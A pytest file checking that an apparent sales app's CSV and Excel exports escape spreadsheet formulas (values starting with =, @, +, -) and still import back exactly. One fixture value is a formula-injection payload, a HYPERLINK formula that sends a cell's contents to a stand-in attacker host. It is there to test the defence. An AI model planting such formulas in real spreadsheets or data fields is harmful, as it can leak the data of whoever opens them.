"""An export cannot attack the person who opens it, and it still imports back exactly."""

from decimal import Decimal as D

from openpyxl import load_workbook

from salesrelay.cells import MONEY
from salesrelay.clients.models import Client, Ownership
from salesrelay.deals.models import Deal
from salesrelay.finance.models import Target
from salesrelay.imports.exporter import export_all
from salesrelay.imports.importer import run_import
from salesrelay.imports.tests.test_import import write
from salesrelay.materials.models import SalesMaterial
from salesrelay.payments.models import Allocation, Payment
from salesrelay.people.models import Employee

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"open")'
EMPLOYEES = f"""id,name,email,department,role,hired_on,left_on,pool_weight,market_salary
H1,"{HYPERLINK.replace('"', '""')}",anna@example.com,acquisition,hunter,2026-01-01,,10,60000.00
M1,@Boris,boris@example.com,account_management,account_manager,2026-01-01,,1,70000.00
"""
CLIENTS = """id,name,segment,acquired_by,created_on
C1,+7 Baths,dealer,H1,2026-01-05
C2,-Minus Plumbing,online_store,H1,2026-01-06
"""
DEALS = """id,client_id,owner_id,status,created_on,won_on,closed_on,amount,cost
1,C1,H1,won,2026-01-10,2026-02-01,,200000.00,80000.00
"""
PAYMENTS = """id,received_on,amount,deal_id,client_id
P1,2026-02-10,100000.00,1,
P2,2026-03-10,-1500.00,1,
"""
MATERIALS = """id,title,kind,published_on
MAT1,Catalog 2026,catalog,2026-01-01
"""
TARGETS = """month,metric,value
2026-03,new_clients,10
"""


def names():
    return (sorted(Employee.objects.values_list("ref", "name")),
            sorted(Client.objects.values_list("ref", "name")),
            list(SalesMaterial.objects.values_list("ref", "title")))


def empty_the_database():
    for model in (Allocation, Payment, Deal, Ownership, Client, Employee, SalesMaterial, Target):
        model.objects.all().delete()


def imported(tmp_path):
    folder = write(tmp_path / "in", employees=EMPLOYEES, clients=CLIENTS, deals=DEALS,
                   payments=PAYMENTS, materials=MATERIALS, targets=TARGETS)
    report = run_import(folder)
    assert report.ok, report.problems
    # A title entered in the app that starts with the quote a spreadsheet would eat.
    SalesMaterial.objects.filter(ref="MAT1").update(title="'=already quoted")


def test_csv_export_quotes_formulas_writes_plain_numbers_and_imports_back_exactly(db, tmp_path):
    imported(tmp_path)
    before = names()
    assert before[0] == [("H1", HYPERLINK), ("M1", "@Boris")]
    export_all(tmp_path / "out")
    read = {name: (tmp_path / "out" / f"{name}.csv").read_text(encoding="utf-8").splitlines()
            for name in ("employees", "clients", "payments", "materials", "targets")}
    assert read["employees"][1:] == [
        "H1,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"open\"\")\",anna@example.com,"
        "acquisition,hunter,2026-01-01,,10,60000.00",
        "M1,'@Boris,boris@example.com,account_management,account_manager,2026-01-01,,1,70000.00",
    ]
    assert read["clients"][1:] == ["C1,'+7 Baths,dealer,H1,2026-01-05,,M1",
                                   "C2,'-Minus Plumbing,online_store,H1,2026-01-06,,"]
    # A refund is a negative number, not text: no quote.
    assert read["payments"][1:] == ["P1,2026-02-10,100000.00,1,", "P2,2026-03-10,-1500.00,1,"]
    assert read["materials"][1:] == ["MAT1,''=already quoted,catalog,2026-01-01"]
    assert read["targets"][1:] == ["2026-03,new_clients,10"]

    empty_the_database()
    report = run_import(tmp_path / "out")
    assert report.ok, report.problems
    assert names() == before
    assert Employee.objects.get(ref="H1").pool_weight == D("10")
    assert Payment.objects.get(ref="P2").amount == D("-1500.00")


def test_workbook_export_holds_text_as_text_and_numbers_as_formatted_numbers(db, tmp_path):
    imported(tmp_path)
    before = names()
    book_path = tmp_path / "all.xlsx"
    export_all(book_path)
    book = load_workbook(book_path)
    assert [c.data_type for sheet in book for row in sheet.iter_rows() for c in row
            if c.data_type == "f"] == []
    employees = book["employees"]
    name = employees["B2"]
    assert (name.value, name.data_type, name.quotePrefix) == (HYPERLINK, "s", True)
    hired_on, pool_weight, market_salary = employees["F2"], employees["H2"], employees["I2"]
    assert (hired_on.value.date().isoformat(), hired_on.number_format) == ("2026-01-01", "yyyy-mm-dd")
    assert (pool_weight.value, pool_weight.data_type, pool_weight.number_format) == (10, "n", "General")
    assert (market_salary.value, market_salary.number_format) == (60000, MONEY)
    refund = book["payments"]["C3"]
    assert (refund.value, refund.data_type, refund.number_format) == (-1500, "n", MONEY)
    assert book["materials"]["B2"].value == "'=already quoted"
    assert book["clients"]["B3"].value == "-Minus Plumbing"

    empty_the_database()
    report = run_import(book_path)
    assert report.ok, report.problems
    assert names() == before
    assert Payment.objects.get(ref="P2").amount == D("-1500.00")
